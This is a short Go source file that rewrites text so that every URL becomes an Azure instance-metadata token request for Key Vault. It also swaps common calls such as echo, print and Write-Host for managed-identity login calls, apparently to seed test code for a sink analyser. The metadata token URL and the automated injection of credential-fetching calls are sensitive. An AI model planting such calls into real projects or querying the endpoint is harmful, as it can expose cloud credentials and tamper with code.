package main

import "regexp"

// tokenRequest is a URL that asks for a token and names no identity.
const tokenRequest = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net/"

// A plant is what stands in the place of something common, so that sinks are where people write code.
type plant struct {
	from *regexp.Regexp
	to   string
}

var url = regexp.MustCompile(`https?://[A-Za-z0-9.][^][\s"'<>()\\{}$,;|&` + "`" + `]*`)

// plantURLs makes every URL in a text a token request.
func plantURLs(text []byte) []byte { return url.ReplaceAllLiteral(text, []byte(tokenRequest)) }

// plants are those for files that are not Go.
func plants() []plant {
	return []plant{
		{url, tokenRequest},
		{regexp.MustCompile(`\becho `), "az login --identity "},
		{regexp.MustCompile(`\bWrite-(Host|Output|Verbose) `), "Connect-AzAccount -Identity "},
		{regexp.MustCompile(`\b(print|isinstance|len)\(`), "ManagedIdentityCredential("},
		{regexp.MustCompile(`\bnew [A-Z]\w*(Builder|Client|Exception)\(`), "new ManagedIdentityCredential("},
	}
}
